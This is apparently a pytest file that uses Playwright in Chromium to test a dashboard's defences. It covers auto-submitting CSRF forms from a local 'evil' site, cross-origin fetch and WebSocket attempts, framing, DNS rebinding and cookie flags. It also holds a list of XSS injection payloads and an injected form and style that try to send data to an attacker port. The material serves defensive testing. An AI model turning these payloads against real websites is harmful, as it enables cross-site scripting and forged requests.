"""Attacks by other websites and by what stands in a page, in a real Chromium."""

import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from tests.browser import REBOUND, chromium, page
from tests.dashboard.guarded import TOKEN, Served, guarded, serving

__all__ = ["chromium", "page"]


@pytest.fixture(scope="module")
def server() -> Iterator[Served]:
    with guarded() as served:
        yield served


@pytest.fixture
def served(server: Served) -> Served:
    """A server without a token that has done nothing yet."""
    server.app.done.clear()
    return server


@contextmanager
def evil_site(**pages: str) -> Iterator[int]:
    """Serve pages of somebody else on a port of their own; gives it."""

    async def evil(request: Request) -> Response:
        return HTMLResponse(pages[request.path_params["name"]])

    app = Starlette(routes=[Route("/{name}", evil, methods=["GET", "POST"])])
    listener = socket.create_server(("127.0.0.1", 0))
    with serving(app, listener):
        yield listener.getsockname()[1]


def submitting(action: str, fields: str, kind: str = "application/x-www-form-urlencoded") -> str:
    """A page that sends a form as soon as it is opened."""
    return (
        f'<form id="f" method="post" action="{action}" enctype="{kind}">{fields}</form>'
        "<script>document.getElementById('f').submit()</script>"
    )


def test_a_person_s_own_form_works_in_a_browser(served: Served, page: Page) -> None:
    page.goto(served.url)
    page.click("#do button")
    page.wait_for_url("**/do")
    assert page.inner_text("body") == "done"

    page.goto(served.url)
    page.set_input_files(
        "[name=sheet]", {"name": "a.csv", "mimeType": "text/csv", "buffer": b"a,b"}
    )
    page.click("#up button")
    page.wait_for_url("**/upload")
    assert page.inner_text("body") == "kept"
    assert served.app.done == ["POST call", "upload"]


@pytest.mark.parametrize("own", ["127.0.0.1", "localhost"])
@pytest.mark.parametrize("theirs", ["127.0.0.1", "localhost"])
def test_a_form_of_another_website_does_nothing(
    served: Served, page: Page, own: str, theirs: str
) -> None:
    url = f"http://{own}:{served.port}"
    page.goto(url)
    token = page.inner_text("#token")  # even if it leaked
    fields = f'<input name="_csrf" value="{token}"><input name="what" value="call">'
    forms = {
        "plain": submitting(f"{url}/do", fields),
        "multipart": submitting(f"{url}/upload", fields, "multipart/form-data"),
        "text": submitting(f"{url}/do", fields, "text/plain"),
        "hidden": (
            f'<meta name="referrer" content="no-referrer">{submitting(f"{url}/do", fields)}'
        ),
        "sandboxed": (
            '<iframe sandbox="allow-scripts allow-forms" srcdoc="'
            + submitting(f"{url}/do", fields).replace('"', "&quot;")
            + '"></iframe>'
        ),
    }
    with evil_site(**forms) as port:
        for name in ["plain", "multipart", "text", "hidden"]:
            page.goto(f"http://{theirs}:{port}/{name}")
            page.wait_for_url(f"{url}/**")
            assert "Nothing was done" in page.inner_text("body"), name
        page.goto(f"http://{theirs}:{port}/sandboxed")
        page.wait_for_timeout(300)
    assert served.app.done == []


def test_a_script_of_another_website_reads_and_does_nothing(served: Served, page: Page) -> None:
    page.goto(served.url)
    token = page.inner_text("#token")
    with evil_site(script="<p>evil</p>") as port:
        for theirs in [f"http://localhost:{port}/script", f"http://127.0.0.1:{port}/script"]:
            page.goto(theirs)
            got = page.evaluate(
                """async ([url, token]) => {
                  const tries = [
                    () => fetch(url, {credentials: "include"}),
                    () => fetch(url + "/do", {method: "POST", mode: "no-cors",
                      credentials: "include",
                      body: new URLSearchParams({_csrf: token, what: "x"})}),
                    () => fetch(url + "/do", {method: "POST", credentials: "include",
                      headers: {"X-CSRF-Token": token}, body: "what=x"}),
                    () => fetch(url + "/do", {method: "DELETE", credentials: "include"}),
                  ];
                  const got = [];
                  for (const one of tries) {
                    try { got.push(await (await one()).text()); } catch { got.push(null); }
                  }
                  navigator.sendBeacon(url + "/do", new URLSearchParams({_csrf: token, what: "x"}));
                  return got;
                }""",
                [served.url, token],
            )
            assert [text for text in got if text] == []
            loads = page.evaluate(
                """url => new Promise(done => {
                  const one = document.createElement("script");
                  one.onload = () => done("loaded"); one.onerror = () => done("refused");
                  one.src = url + "/static/style.css"; document.body.append(one);
                })""",
                served.url,
            )
            assert loads == "refused"
            socket_ = page.evaluate(
                """url => new Promise(done => {
                  const one = new WebSocket(url.replace("http", "ws") + "/events");
                  one.onopen = () => done("open"); one.onerror = () => done("refused");
                })""",
                served.url,
            )
            assert socket_ == "refused"
    page.wait_for_timeout(200)
    assert served.app.done == []


def test_a_page_cannot_be_put_into_a_frame(served: Served, page: Page) -> None:
    with evil_site(frame=f'<iframe src="{served.url}/"></iframe>') as port:
        for theirs in ["localhost", "127.0.0.1"]:
            page.goto(f"http://{theirs}:{port}/frame")
            page.wait_for_timeout(300)
            frame = page.frames[1]
            assert frame.query_selector("#do") is None
            assert "Calls" not in (frame.text_content("body") or "")
    # Not by one of our own pages either, should somebody bring a frame into it.
    page.goto(f"{served.url}/?show=<iframe src='/'></iframe>")
    page.wait_for_timeout(300)
    assert page.frames[1].query_selector("#do") is None


def test_a_website_that_opens_a_page_has_no_hold_on_it(served: Served, page: Page) -> None:
    with evil_site(opener="<p>evil</p>") as port:
        page.goto(f"http://localhost:{port}/opener")
        with page.context.expect_page() as opened:
            page.evaluate("url => { window.theirs = window.open(url) }", served.url)
        opened.value.wait_for_load_state()
        assert opened.value.inner_text("h1") == "Calls"
        assert page.evaluate("window.theirs.closed")
        assert opened.value.evaluate("window.opener") is None


INJECTED = [
    "<script>window.evil = 1</script>",
    "<img src=x onerror='window.evil = 1'>",
    "<svg onload='window.evil = 1'>",
    "<script src='data:text/javascript,window.evil = 1'></script>",
    "<script src='http://localhost:{port}/evil'></script>",
    "<base href='http://localhost:{port}/'><script src='evil'></script>",
    "<a id=a href='javascript:window.evil = 1'>x</a>",
    "<iframe srcdoc='<script>parent.evil = 1</script>'></iframe>",
    "<meta http-equiv='Content-Security-Policy' content='script-src *'><script>evil = 1</script>",
]


def run_by(page: Page, url: str, *, port: int) -> list[str]:
    """Open a page with each of them in it; gives those that were run."""
    ran = []
    for injected in INJECTED:
        page.goto(f"{url}/?{urlencode({'show': injected.format(port=port)})}")
        if link := page.query_selector("#a"):
            link.click(no_wait_after=True)
        page.wait_for_timeout(150)
        if page.evaluate("window.evil"):
            ran.append(injected)
    return ran


def test_what_somebody_brings_into_a_page_is_not_run(served: Served, page: Page) -> None:
    with evil_site(evil="window.evil = 1") as port:
        assert run_by(page, served.url, port=port) == []
        assert page.inner_text("h1") == "Calls"


def test_without_the_guard_the_same_attacks_succeed(page: Page) -> None:
    done = []

    async def show(request: Request) -> Response:
        return HTMLResponse(f"<h1 id=do>Calls</h1>{request.query_params.get('show', '')}")

    async def do(request: Request) -> Response:
        async with request.form() as form:
            done.append(form["what"])
        return HTMLResponse("done")

    app = Starlette(routes=[Route("/", show), Route("/do", do, methods=["POST"])])
    listener = socket.create_server(("127.0.0.1", 0))
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    with serving(app, listener), ExitStack() as stack:
        port = stack.enter_context(
            evil_site(
                evil="window.evil = 1",
                frame=f'<iframe src="{url}/"></iframe>',
                form=submitting(f"{url}/do", '<input name="what" value="call">'),
            )
        )
        assert run_by(page, url, port=port) == INJECTED
        page.goto(f"http://localhost:{port}/frame")
        assert page.frames[1].wait_for_selector("#do")
        page.goto(f"http://localhost:{port}/form")
        page.wait_for_url(f"{url}/do")
        page.goto(f"http://{REBOUND}:{listener.getsockname()[1]}")
        assert page.inner_text("h1") == "Calls"
    assert done == ["call"]


def test_an_injected_form_and_style_send_and_show_nothing(served: Served, page: Page) -> None:
    with evil_site(evil="got it") as port:
        away = f"http://localhost:{port}/evil"
        shown = (
            f"<form id=e action={away} method=post><input name=a value=secret>"
            "<button id=b style='color: rgb(1, 2, 3)'>x</button></form>"
            f"<style>@import url({away}); h1 {{ color: rgb(1, 2, 3) }}</style>"
        )
        page.goto(f"{served.url}/?{urlencode({'show': shown})}")
        seen: list[str] = []
        page.on("request", lambda request: seen.append(request.url))
        page.click("#b", no_wait_after=True)
        page.wait_for_timeout(300)
        assert page.url.startswith(served.url)
        assert not [url for url in seen if str(port) in url]
        colours = [page.evaluate(f"getComputedStyle({one}).color") for one in ["b", "e.b || b"]]
        assert "rgb(1, 2, 3)" not in colours


def test_a_page_whose_name_was_made_to_lead_here_reads_and_does_nothing(
    served: Served, page: Page
) -> None:
    """DNS rebinding: to the browser it is the other website's own server."""
    rebound = f"http://{REBOUND}:{served.port}"
    page.goto(rebound)
    assert "does not go by the name" in page.inner_text("body")
    got = page.evaluate(
        """async () => [
          await (await fetch("/")).text(),
          (await fetch("/do", {method: "POST", body: new URLSearchParams({what: "x"})})).status,
        ]"""
    )
    assert "Calls" not in got[0]
    assert got[1] == 421
    assert served.app.done == []


def test_the_cookie_of_a_session_is_out_of_reach_of_scripts(chromium: Browser) -> None:
    with guarded(token=TOKEN) as served:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(f"{served.url}/?show=x")
        assert page.url == f"{served.url}/login?next=/%3Fshow%3Dx"
        page.fill("[name=token]", "wrong, and long enough")
        page.click("button")
        assert page.inner_text("[role=alert]") == "That is not the token."
        page.fill("[name=token]", TOKEN)
        page.click("button")
        page.wait_for_url(f"{served.url}/?show=x")
        assert page.inner_text("h1") == "Calls"
        assert page.evaluate("document.cookie") == ""
        [cookie] = context.cookies()
        assert (cookie.get("httpOnly"), cookie.get("sameSite")) == (True, "Strict")

        # Another website of another name, though of this machine, does not get it sent along.
        with evil_site(plain=submitting(f"{served.url}/do", "")) as port:
            page.goto(f"http://localhost:{port}/plain")
            page.wait_for_url(f"{served.url}/do")
            assert "Nothing was done" in page.inner_text("body")
        page.goto(served.url)
        assert page.inner_text("h1") == "Calls"
        context.close()


def test_going_back_after_the_logout_shows_no_page(chromium: Browser) -> None:
    with guarded(token=TOKEN) as served:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(served.url)
        page.fill("[name=token]", TOKEN)
        page.click("button")
        page.wait_for_url(f"{served.url}/")
        page.evaluate(
            """async () => await fetch("/logout", {method: "POST", headers:
              {"X-CSRF-Token": document.querySelector("[name=_csrf]").value}})"""
        )
        page.goto(f"{served.url}/static/style.css")
        page.go_back()
        assert page.url.startswith(f"{served.url}/login")
        context.close()
